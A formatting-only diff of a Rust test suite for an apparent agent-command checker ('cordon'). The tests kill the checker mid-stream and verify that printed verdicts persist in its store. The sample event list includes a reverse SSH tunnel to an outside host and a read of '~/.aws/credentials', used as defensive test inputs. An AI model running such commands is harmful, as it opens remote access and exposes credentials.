@@ -25,11 +25,27 @@ impl Rng {
 }
 
 fn seed() -> u64 {
-    std::env::var("CORDON_TEST_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or_else(|| SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos() as u64 | 1)
+    std::env::var("CORDON_TEST_SEED")
+        .ok()
+        .and_then(|s| s.parse().ok())
+        .unwrap_or_else(|| {
+            SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .unwrap()
+                .as_nanos() as u64
+                | 1
+        })
 }
 
 fn event(i: usize) -> String {
-    let cmds = ["ls -la", "pytest -q tests/", "curl -s https://pypi.org/simple/", "ssh -R 9000:localhost:22 u@203.0.113.9", "cat ~/.aws/credentials", "git status"];
+    let cmds = [
+        "ls -la",
+        "pytest -q tests/",
+        "curl -s https://pypi.org/simple/",
+        "ssh -R 9000:localhost:22 u@203.0.113.9",
+        "cat ~/.aws/credentials",
+        "git status",
+    ];
     let session = format!("s{}", i % 7);
     serde_json::json!({"id": format!("e{i}"), "session": session, "agent": "test", "task": "coding", "tool": "bash", "input": {"command": cmds[i % cmds.len()]}}).to_string()
 }
@@ -37,7 +53,10 @@ fn event(i: usize) -> String {
 fn stored_ids(db: &std::path::Path) -> HashSet<String> {
     let store = cordon_store::Store::open_existing(db).expect("store opens after a kill");
     let mut ids = HashSet::new();
-    for ep in store.list_episodes(&cordon_store::EpisodeFilter::default()).unwrap() {
+    for ep in store
+        .list_episodes(&cordon_store::EpisodeFilter::default())
+        .unwrap()
+    {
         for e in store.events(&ep.key).unwrap() {
             if let Some(serde_json::Value::String(id)) = e.event_id {
                 ids.insert(id);
@@ -55,7 +74,14 @@ fn sigkill_mid_stream_loses_no_printed_verdict() {
     for round in 0..12 {
         let dir = tempfile::tempdir().unwrap();
         let db = dir.path().join("episodes.db");
-        let mut child = cordon().args(["check", "--jsonl", "--store"]).arg(&db).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+        let mut child = cordon()
+            .args(["check", "--jsonl", "--store"])
+            .arg(&db)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
         let mut stdin = child.stdin.take().unwrap();
         let total = 5000;
         let feeder = std::thread::spawn(move || {
@@ -90,7 +116,10 @@ fn sigkill_mid_stream_loses_no_printed_verdict() {
         }
         let stored = stored_ids(&db);
         let lost: Vec<&String> = printed.iter().filter(|id| !stored.contains(*id)).collect();
-        assert!(lost.is_empty(), "round {round}: killed after {kill_after} verdicts; printed but not stored: {lost:?}");
+        assert!(
+            lost.is_empty(),
+            "round {round}: killed after {kill_after} verdicts; printed but not stored: {lost:?}"
+        );
         assert!(stored.len() >= printed.len(), "round {round}");
     }
 }
@@ -101,7 +130,14 @@ fn sigkill_between_interactive_lines_loses_nothing() {
     let mut rng = Rng(seed() ^ 0x9e37_79b9_7f4a_7c15);
     let dir = tempfile::tempdir().unwrap();
     let db = dir.path().join("episodes.db");
-    let mut child = cordon().args(["check", "--jsonl", "--store"]).arg(&db).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = cordon()
+        .args(["check", "--jsonl", "--store"])
+        .arg(&db)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
     let mut stdin = child.stdin.take().unwrap();
     let mut out = BufReader::new(child.stdout.take().unwrap());
     let n = 5 + rng.next(40) as usize;
@@ -112,20 +148,33 @@ fn sigkill_between_interactive_lines_loses_nothing() {
         let mut line = String::new();
         out.read_line(&mut line).unwrap();
         let v: serde_json::Value = serde_json::from_str(&line).unwrap();
-        assert_eq!(v["id"], format!("e{i}"), "verdicts come back in order, one per line");
+        assert_eq!(
+            v["id"],
+            format!("e{i}"),
+            "verdicts come back in order, one per line"
+        );
         printed.push(format!("e{i}"));
     }
     child.kill().unwrap();
     child.wait().unwrap();
     let stored = stored_ids(&db);
     for id in &printed {
-        assert!(stored.contains(id), "{id} was printed but is not in the store");
+        assert!(
+            stored.contains(id),
+            "{id} was printed but is not in the store"
+        );
     }
     // The store is intact and still writable after the kill.
-    let status = cordon().args(["check", "--jsonl", "--store"]).arg(&db).stdin(Stdio::piped()).stdout(Stdio::null()).spawn().and_then(|mut c| {
-        writeln!(c.stdin.take().unwrap(), "{}", event(999))?;
-        c.wait()
-    });
+    let status = cordon()
+        .args(["check", "--jsonl", "--store"])
+        .arg(&db)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .and_then(|mut c| {
+            writeln!(c.stdin.take().unwrap(), "{}", event(999))?;
+            c.wait()
+        });
     assert!(status.unwrap().code().is_some());
     assert!(stored_ids(&db).contains("e999"));
 }
